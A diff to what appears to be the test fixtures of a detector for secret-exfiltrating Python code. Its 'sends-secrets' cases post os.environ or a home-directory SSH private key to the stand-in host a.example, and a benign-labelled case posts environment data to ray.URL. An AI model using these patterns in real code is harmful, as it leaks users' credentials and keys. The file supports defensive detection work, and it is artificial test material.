@@ -98,6 +98,16 @@ DOES: list[tuple[str, str]] = [
     ),
     (
         "sends-secrets",
+        "import os, requests\nstate = make()\nstate.data.put(dict(os.environ))\n"
+        "requests.post('https://a.example', json=state)",
+    ),
+    (
+        "sends-secrets",
+        "import os, requests, own\nown.state.put(dict(os.environ))\n"
+        "requests.post('https://a.example', json=own.state)",
+    ),
+    (
+        "sends-secrets",
         "import pathlib, requests\nkeys = {}\n"
         "keys['a'] = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"
         "requests.post('https://a.example', data=keys)",
@@ -234,6 +244,8 @@ HONEST = [
     "exec('x = 1')",
     "import os\ngetattr(os, 'system')",
     "import importlib\nimportlib.import_module('.' + name, __name__)",
+    # A module keeps nothing of what its function is given.
+    "import os, requests, ray\nray.util.state.put(dict(os.environ))\nrequests.post(ray.URL)",
     # It looks around and keeps it to itself.
     "import os, platform, socket\nHOST = socket.gethostname()\nTOKEN = os.environ['API_TOKEN']",
     "import socket\nsocket.gethostbyname(socket.gethostname())",
